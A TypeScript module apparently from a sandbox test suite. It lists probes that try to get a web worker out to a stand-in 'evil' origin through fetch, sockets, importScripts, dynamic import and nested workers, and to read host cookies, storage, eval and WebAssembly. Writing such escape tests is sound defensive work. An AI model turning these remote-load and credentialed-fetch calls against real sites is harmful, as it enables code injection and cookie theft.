import { callGlobal, got, wait, type Probe } from './probe.ts';

/** Ways out that a worker of the host's own origin would have. */
export const WORKER_PROBES: Readonly<Record<string, Probe>> = {
  fetch: { realm: 'worker', proof: 'hit', run: ({ evil }) => fetch(`${evil}/fetch`) },
  fetchHostWithCookies: {
    realm: 'worker',
    proof: 'cookie',
    run: ({ host }) => fetch(`${host}/secret`, { credentials: 'include' }),
  },
  xhr: {
    realm: 'worker',
    proof: 'hit',
    run: ({ evil }) => {
      const request = new XMLHttpRequest();
      request.open('GET', `${evil}/xhr`);
      request.send();
      return wait();
    },
  },
  webSocket: {
    realm: 'worker',
    proof: 'hit',
    run: ({ evil }) => {
      new WebSocket(`${evil.replace('http', 'ws')}/ws`);
      return wait();
    },
  },
  eventSource: {
    realm: 'worker',
    proof: 'hit',
    run: ({ evil }) => {
      new EventSource(`${evil}/sse`);
      return wait();
    },
  },
  dynamicImport: { realm: 'worker', proof: 'hit', run: ({ evil }) => import(`${evil}/import.js`) },
  importScripts: {
    realm: 'worker',
    proof: 'hit',
    run: ({ evil }) => callGlobal('importScripts', `${evil}/scripts.js`),
  },
  nestedWorker: {
    realm: 'worker',
    proof: 'hit',
    run: ({ evil }) => {
      const code = new Blob([`fetch('${evil}/nested-worker')`], { type: 'text/javascript' });
      new Worker(URL.createObjectURL(code));
      return wait(600);
    },
  },
  indexedDb: {
    realm: 'worker',
    proof: 'got',
    run: () =>
      new Promise((resolve, reject) => {
        const request = indexedDB.open('probe');
        request.onsuccess = () => {
          resolve('GOT');
        };
        request.onerror = () => {
          reject(request.error ?? new Error('no database'));
        };
      }),
  },
  caches: { realm: 'worker', proof: 'got', run: () => got(caches.open('probe')) },
  originPrivateFiles: { realm: 'worker', proof: 'got', run: () => got(navigator.storage.getDirectory()) },
  locks: { realm: 'worker', proof: 'got', run: () => got(navigator.locks.query()) },
  eval: {
    realm: 'worker',
    proof: 'got',
    run: () => got(callGlobal('eval', '1+1')),
  },
  functionConstructor: {
    realm: 'worker',
    proof: 'got',
    run: () => got(Reflect.apply(Reflect.construct(Function, ['return 2']), null, [])),
  },
  wasm: {
    realm: 'worker',
    proof: 'got',
    run: () => got(WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))),
  },
  broadcastChannel: {
    realm: 'worker',
    proof: 'seen',
    run: ({ evil }) => {
      new BroadcastChannel('of-the-host').postMessage(`from ${evil}`);
      return wait();
    },
  },
};
